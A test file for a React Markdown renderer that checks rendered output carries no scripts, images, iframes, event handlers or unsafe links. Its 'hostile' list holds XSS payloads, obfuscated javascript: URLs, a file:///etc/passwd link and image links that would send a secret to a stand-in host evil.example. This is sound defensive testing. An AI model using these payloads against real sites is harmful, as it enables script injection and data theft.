import { render, screen, within } from "@testing-library/react";
import { describe, expect, test } from "vitest";
import { Markdown } from "@/components/markdown/markdown";

describe("what must never come of a text", () => {
  const hostile = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "text <b onclick=alert(1)>bold</b>",
    "<iframe src=https://evil.example></iframe>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<style>@import 'https://evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<picture><source srcset=https://evil.example/x></picture>",
    "![x](https://evil.example/?q=secret)",
    "![x](//evil.example/x.png)",
    "![x][pic]\n\n[pic]: https://evil.example/x.png",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/api/conversations)",
    "<javascript:alert(1)>",
    "[x][a]\n\n[a]: javascript:alert(1)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "<!-- comment --> <?php echo 1 ?> <![CDATA[x]]>",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    "| <img src=x> |\n|--|\n| <script>1</script> |",
  ];

  test.each(hostile)("%s", (text) => {
    const { container } = render(<Markdown text={text} />);

    expect(
      container.querySelector("script,img,iframe,svg a,style,link,picture,source,object"),
    ).toBeNull();
    for (const element of container.querySelectorAll("*")) {
      const names = element.getAttributeNames();
      expect(names.filter((name) => name.startsWith("on") || name === "style")).toEqual([]);
    }
    for (const link of container.querySelectorAll("a")) {
      expect(link.protocol).toMatch(/^(https?|mailto):$/);
      expect(link.host).not.toBe(location.host);
    }
  });

  test("the same while it streams in letter by letter", () => {
    const { container, rerender } = render(<Markdown text="" isStreaming />);
    const text = hostile.join("\n\n");

    for (let length = 1; length < text.length; length += 3) {
      rerender(<Markdown text={text.slice(0, length)} isStreaming />);
      expect(container.querySelector("script,img,iframe,style,link")).toBeNull();
    }
  });
});

test("HTML is shown as the text it is", () => {
  render(<Markdown text={"a <b>c</b>"} />);

  expect(screen.getByText("a <b>c</b>")).toBeTruthy();
});

test("a link opens elsewhere and tells nothing", () => {
  render(<Markdown text="[notes](https://example.org/notes)" />);

  const link = screen.getByRole("link", { name: "notes" });
  expect(link.getAttribute("href")).toBe("https://example.org/notes");
  expect(link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  expect(link.getAttribute("target")).toBe("_blank");
});

test("a picture is a text with its address", () => {
  render(<Markdown text="![spark line](https://example.org/x.png)" />);

  expect(screen.getByText("Not loaded: spark line")).toBeTruthy();
  expect(screen.getByRole("link", { name: "https://example.org/x.png" })).toBeTruthy();
});

test("tables, lists and tasks are what they look like", () => {
  render(
    <Markdown text={"| a | b |\n|--|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\n3. three"} />,
  );

  const table = screen.getByRole("table");
  expect(within(table).getAllByRole("columnheader")).toHaveLength(2);
  expect(within(table).getByRole("cell", { name: "2" })).toBeTruthy();
  expect(screen.getByRole("checkbox", { name: "done" })).toHaveProperty("checked", true);
  expect(screen.getByRole("checkbox", { name: "to do" })).toHaveProperty("checked", false);
  expect(screen.getAllByRole("list")[1]?.getAttribute("start")).toBe("3");
});

test("a link defined in another block works", () => {
  render(<Markdown text={"See [it][a].\n\nMore.\n\n[a]: https://example.org/a"} />);

  expect(screen.getByRole("link", { name: "it" })).toBeTruthy();
});

test("character references are the characters they name", () => {
  render(<Markdown text="a &lt;b&gt; &amp; &#x41; &nosuch;" />);

  expect(screen.getByText("a <b> & A &nosuch;")).toBeTruthy();
});

test("finished code is coloured by elements", async () => {
  const { container } = render(<Markdown text={"```java\nvar x = 1;\n```"} />);

  expect((await screen.findByText("var")).className).toBe("hljs-type");
  expect(container.querySelector("code")?.textContent).toBe("var x = 1;");
  expect(screen.getByRole("button", { name: "Copy code" })).toBeTruthy();
});

test("ids and words of code are not broken at their hyphens, unless they are too long", () => {
  const long = "a-".repeat(20);
  const { container } = render(
    <Markdown text={`PARLEY-10 and well-known \`npx my-tool ${long}\`\n\n|x|\n|-|\n|check-out|`} />,
  );

  const whole = [...container.querySelectorAll(".whitespace-nowrap")].map((one) => one.textContent);
  expect(whole).toEqual(["PARLEY-10", "my-tool", "check-out"]);
  expect(container.textContent).toBe(`PARLEY-10 and well-known npx my-tool ${long}xcheck-out`);
});
